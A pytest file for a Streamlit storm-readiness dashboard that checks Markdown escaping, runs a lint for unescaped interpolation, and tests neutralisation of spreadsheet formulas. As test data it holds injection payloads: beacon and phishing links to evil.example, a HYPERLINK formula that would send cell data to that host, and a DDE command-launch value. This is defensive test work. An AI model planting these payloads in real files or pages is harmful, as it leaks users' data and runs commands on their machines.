"""Text injection (issue 11, finding 6), each a literal attack case:

* Markdown payloads (a remote image beacon, a phishing link, a bare URL, HTML,
  Streamlit's ``:red[…]`` / ``:material/…:`` directives, ``$`` math) in a
  feedback title, a storm event name and a feed error are shown as typed on
  the rendered pages (AppTest): nothing of them stays live Markdown;
* a lint over ``dashboard/ui``: no f-string or catalog text ``t(…)`` passed to
  ``st.markdown`` & co. interpolates a value that did not go through
  :func:`dashboard.ui.markdown.escape`;
* titles and names starting with ``= + - @`` are text, never formulas, in the
  situation-report XLSX and the readiness board CSV/XLSX.
"""

from __future__ import annotations

import ast
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from dashboard import feedback as fb
from dashboard import scenario
from dashboard.auth import SYSTEM, Principal, Role
from dashboard.bootstrap import open_context
from dashboard.config import load_settings
from dashboard.core.text import safe_cell
from dashboard.demo.accounts import DEMO_COMMUNE
from dashboard.events import active_events
from dashboard.plans.export import board_csv, board_xlsx
from dashboard.plans.readiness import province_board
from dashboard.reports import sitrep as sr
from dashboard.scenario.drill import DRILL_CLOCK
from dashboard.store.models.core import FeedStatus
from dashboard.store.models.plans import StormEvent
from dashboard.ui.markdown import escape
from tests.support.apptest import open_view
from tests.support.helpers import REPO_ROOT

PAYLOADS = (
    "![x](http://evil.example/beacon.png)",
    "[click](http://evil.example/login)",
    "see http://evil.example/login now",
    "www.evil.example",
    "mail admin@evil.example",
    '<img src="http://evil.example/b.png">',
    "&#60;img src=x&#62;",
    ":red[ALERT] :material/warning: :blue-background[x]",
    "$\\href{http://evil.example}{x}$",
    "[ref]\n\n[ref]: http://evil.example",
)
PAYLOAD = (
    "Bão ![x](http://evil.example/beacon.png) [click](http://evil.example) "
    "<img src=x> :red[!] $x$"
)

_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
_LIVE = {
    "image": r"!\[",
    "link": r"\]\s*[(\[:]",
    "autolink": r"https?:/|www\.|\w@\w+\.\w",
    "html": r"<\s*[a-z/!]|&#?\w+;",
    "directive": r":[a-z][\w-]*\[|:material/",
    "math": r"\$",
}


def live_markdown(value: str) -> list[str]:
    """The Markdown constructs still live in *value* once its backslash
    escapes are set aside (an escaped character is plain text)."""
    bare = _ESCAPED.sub("\x00", value)
    return [name for name, pattern in _LIVE.items() if re.search(pattern, bare)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escape_leaves_no_live_markdown(payload):
    assert live_markdown(payload)  # the check sees the attack …
    assert live_markdown(escape(payload)) == []  # … and escape() defuses it
    # shown as typed: removing the escapes gives the text back
    assert re.sub(r"\\(.)", r"\1", escape(payload), flags=re.S) == payload


def test_escape_keeps_plain_vietnamese_text():
    assert escape("Xã Đồng Châu, 12 hộ") == "Xã Đồng Châu, 12 hộ"
    assert escape("a\x00b\u2028c") == "abc"


# -- the lint: every interpolated value goes through escape() ------------------------

#: Streamlit calls whose text (first argument or label) is rendered as Markdown.
MARKDOWN_CALLS = {
    "markdown",
    "caption",
    "info",
    "warning",
    "error",
    "success",
    "toast",
    "title",
    "header",
    "subheader",
    "write",
    "expander",
    "tabs",
    "popover",
    "button",
    "download_button",
    "link_button",
    "form_submit_button",
    "checkbox",
    "toggle",
    "radio",
    "selectbox",
    "multiselect",
    "text_input",
    "text_area",
    "number_input",
    "file_uploader",
    "metric",
    "status",
}
#: Our own helpers, whose results are catalog text or formatted numbers/times.
OURS = {
    "escape",
    "t",
    "len",
    "int",
    "round",
    "local_time",
    "vn_time",
    "when",
    "relative_hours",
    "duration",
    "human_size",
    "_status",
    "_label",
    "_paragraphs",
    "_warning_text",
    "error_message",  # dashboard/ui/errors.py escapes every parameter it fills in
}
#: Values known to be numbers or catalog text (``file:expression``).
KNOWN_SAFE = {
    "card.py:text",  # a t("dlg.followup.line", …) with escaped parameters
    "feedback.py:item.id",
    "feedback.py:due",  # local_time(…) or t(…)
    "feedback.py:fb.MAX_ATTACHMENT_BYTES",  # a number
    "map_page.py:f.wind_averaging_minutes",
    "map_page.py:hours",
    "outreach.py:params",  # {k: escape(v) …}
    "outreach.py:ICONS[material.kind]",
    "plans.py:ready['done']",
    "plans.py:ready['tasks']",
    "plans.py:ready['overdue']",
    "readiness.py:info.n_tasks",
    "readiness.py:info.version",
    # Limits: numbers defined in our own modules.
    "boundaries.py:UPLOAD_LIMIT_MB",
    "forecasts.py:UPLOAD_LIMIT_MB",
    "readiness.py:UPLOAD_LIMIT_MB",
    "feedback.py:fb.MAX_TEXT",
    "outreach.py:uploads.MB",
    "users.py:accounts.MAX_DISPLAY_NAME",
    "users.py:accounts.MIN_PASSWORD_LENGTH",
}


def _name(func: ast.expr) -> str | None:
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return func.attr
    return None


def _unescaped(node: ast.expr | None) -> list[ast.expr]:
    """Interpolated parts of a text expression that are not known safe."""
    if node is None or isinstance(node, ast.Constant):
        return []
    if isinstance(node, ast.JoinedStr):
        return [
            part
            for v in node.values
            if isinstance(v, ast.FormattedValue) and v.format_spec is None
            for part in _value(v.value)
        ]
    if isinstance(node, ast.Attribute | ast.Subscript):  # st.subheader(item.title)
        return [node]
    if isinstance(node, ast.Call):
        if _name(node.func) == "str":  # st.error(str(exc))
            return [node]
        if _name(node.func) == "t":
            return [p for kw in node.keywords for p in _value(kw.value)]
        if _name(node.func) == "join" and node.args:
            arg = node.args[0]
            if isinstance(arg, ast.ListComp | ast.GeneratorExp):
                return _unescaped(arg.elt)
        return []
    if isinstance(node, ast.BinOp):
        return _unescaped(node.left) + _unescaped(node.right)
    if isinstance(node, ast.IfExp):
        return _unescaped(node.body) + _unescaped(node.orelse)
    if isinstance(node, ast.List | ast.Tuple):
        return [p for e in node.elts for p in _unescaped(e)]
    return []


def _value(node: ast.expr) -> list[ast.expr]:
    """*node* interpolated into Markdown: safe, or the offending parts."""
    if isinstance(node, ast.Constant):
        return []
    if isinstance(node, ast.Call) and _name(node.func) in OURS:
        return _unescaped(node) if _name(node.func) == "t" else []
    if isinstance(node, ast.DictComp):
        return _value(node.value)
    if isinstance(node, ast.JoinedStr | ast.BinOp | ast.IfExp):
        return _unescaped(node)
    return [node]


def unescaped_interpolations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if not (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr in MARKDOWN_CALLS
        ):
            continue
        texts = list(node.args[:1]) + [
            kw.value for kw in node.keywords if kw.arg in ("label", "body", "help")
        ]
        for text in texts:
            for part in _unescaped(text):
                expression = f"{path.name}:{ast.unparse(part)}"
                if expression not in KNOWN_SAFE:
                    found.append(f"{path}:{node.lineno}: {ast.unparse(part)}")
    return found


def test_the_views_escape_every_interpolated_value():
    ui = REPO_ROOT / "dashboard" / "ui"
    found = [
        hit
        for path in sorted(ui.rglob("*.py"))
        for hit in unescaped_interpolations(path)
    ]
    assert found == [], "wrap these in escape() (dashboard/ui/markdown.py):\n" + (
        "\n".join(found)
    )


def test_the_lint_catches_an_unescaped_title(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import streamlit as st\n"
        "st.subheader(f'#{item.id} · {item.title}')\n"
        "st.error(t('x.failed', error=outcome.error))\n"
        "cols[0].markdown(f'**{escape(name)}** {t(\"k\", who=who)}')\n"
        "st.info(t('ok', name=escape(name)))\n"
        "st.error(str(exc))\n"
        "st.subheader(event.name)\n",
        encoding="utf-8",
    )
    found = [h.split(": ", 1)[1] for h in unescaped_interpolations(bad)]
    assert found == [
        "item.id",
        "item.title",
        "outcome.error",
        "who",
        "str(exc)",
        "event.name",
    ]


# -- the rendered pages --------------------------------------------------------------


def _texts(at) -> list[str]:
    parts = [m.value for m in (*at.markdown, *at.caption, *at.subheader, *at.title)]
    parts += [e.value for e in (*at.success, *at.error, *at.warning, *at.info)]
    parts += [e.label for e in at.expander]
    return [str(p) for p in parts]


def _assert_shown_as_typed(at, needle: str) -> None:
    assert not at.exception, at.exception
    shown = [t for t in _texts(at) if needle in re.sub(r"\\(.)", r"\1", t)]
    assert shown, f"{needle!r} is not on the page"
    for text in shown:
        assert live_markdown(text) == [], text
    for text in _texts(at):
        assert live_markdown(text) == [], text


@pytest.fixture
def store(ui_environment):
    context = open_context(load_settings())
    yield context
    context.engine.dispose()


def test_a_markdown_feedback_title_is_shown_as_typed(store):
    leader = Principal("inj-leader", Role.COMMUNE, "UBND", commune_code="10507")
    staff = Principal("inj-staff", Role.PROVINCE, "BCH", frozenset({"31"}))
    with store.transaction() as s:
        item = fb.raise_item(
            s,
            leader,
            commune_code="10507",
            category="equipment",
            urgency="urgent",
            title=PAYLOAD,
            text="![t](http://evil.example/t.png) [x](http://evil.example)",
        )
    at = open_view("feedback", staff)
    at.selectbox(key="fb_province_pick").set_value(item.id).run()
    _assert_shown_as_typed(at, "![x](http://evil.example/beacon.png)")
    assert any(PAYLOAD in re.sub(r"\\(.)", r"\1", h.value) for h in at.subheader)


def test_a_markdown_event_name_is_shown_as_typed(store):
    with store.transaction() as s:
        (event,) = active_events(s, is_drill=True)
        s.execute(
            update(StormEvent).where(StormEvent.id == event.id).values(name=PAYLOAD)
        )
    try:
        commune = Principal("demo-commune", Role.COMMUNE, "UBND", commune_code="13003")
        at = open_view("plans", commune)
        _assert_shown_as_typed(at, PAYLOAD)
    finally:
        with store.transaction() as s:
            s.execute(
                update(StormEvent)
                .where(StormEvent.id == event.id)
                .values(name=event.name)
            )


def test_a_markdown_feed_error_is_shown_as_typed(store, tmp_path, monkeypatch):
    error = f"evil-feed: {PAYLOAD}"
    now = datetime.now(UTC)
    with store.transaction() as s:
        scenario.set_live(s, SYSTEM)
        s.add(
            FeedStatus(
                feed="evil-feed",
                url="http://127.0.0.1:9/x",
                last_attempt_at=now,  # not due: the page does not poll it
                last_error=error,
                consecutive_failures=1,
            )
        )
    feeds_file = tmp_path / "feeds.yaml"
    feeds_file.write_text(
        "- name: evil-feed\n  url: http://127.0.0.1:9/x\n", encoding="utf-8"
    )
    monkeypatch.setenv("DASHBOARD_FEEDS_FILE", str(feeds_file))
    monkeypatch.setenv("DASHBOARD_POLL_MINUTES", "60")
    try:
        at = open_view("map_page", None)
        _assert_shown_as_typed(at, error)
    finally:
        with store.transaction() as s:
            scenario.set_drill_clock(s, SYSTEM, DRILL_CLOCK)
            s.execute(
                update(FeedStatus)
                .where(FeedStatus.feed == "evil-feed")
                .values(last_error=None)
            )


# -- spreadsheets: no live formulas ----------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_formulas(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Xã = 3") == "Xã = 3"
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def _cells(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for ws in wb for row in ws.iter_rows() for c in row]


def _no_formula(values: list[object]) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


NOW = datetime(2025, 7, 20, 14, 0, tzinfo=UTC)
STAFF_33 = Principal(
    "demo-province", Role.PROVINCE, "BCH Hưng Yên", province_codes=frozenset({"33"})
)
LEADER = Principal("demo-commune", Role.COMMUNE, "Đồng Châu", commune_code=DEMO_COMMUNE)


def test_formula_titles_are_text_in_the_sitrep_and_the_board(demo_ctx):
    formula = FORMULAS[0]
    with demo_ctx.transaction() as s:
        fb.raise_item(
            s,
            LEADER,
            commune_code=DEMO_COMMUNE,
            category="equipment",
            urgency="critical",
            title=formula,
            text="x",
            clock=NOW - timedelta(hours=6),
        )
        (event,) = active_events(s, is_drill=True)
        s.execute(
            update(StormEvent).where(StormEvent.id == event.id).values(name="=1+2")
        )
    report = sr.build_sitrep(demo_ctx, STAFF_33, "33", clock=NOW)
    assert [r.title for r in report.urgent_requests] == [formula]
    cells = _cells(sr.sitrep_xlsx(report))
    assert "'" + formula in cells and "'=1+2" in cells
    _no_formula(cells)

    with demo_ctx.sessions() as s:
        board = province_board(s, STAFF_33, event.id, "33", DRILL_CLOCK)
    board.loc[board.index[0], "commune_name"] = FORMULAS[1]
    cells = _cells(board_xlsx(board))
    assert "'" + FORMULAS[1] in cells
    _no_formula(cells)
    text = board_csv(board).decode("utf-8-sig")
    assert "'" + FORMULAS[1] in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line


def test_template_csv_has_no_formulas_and_reads_back_the_same():
    from dataclasses import replace

    from dashboard.plans.templates import parse_csv, read_starter, to_csv

    _, _, specs = read_starter()
    tricky = [
        replace(specs[0], title_vi=FORMULAS[0], guidance_en="@SUM(1,2)"),
        replace(specs[1], title_vi="'quoted", title_en="-2+3"),
        *specs[2:4],
    ]
    text = to_csv(tricky)
    assert "'" + FORMULAS[0].replace('"', '""') in text
    for line in text.splitlines():
        assert not line.startswith(("=", "+", "-", "@")), line
        assert ",=" not in line and ',"=' not in line, line
    assert parse_csv(text) == tricky
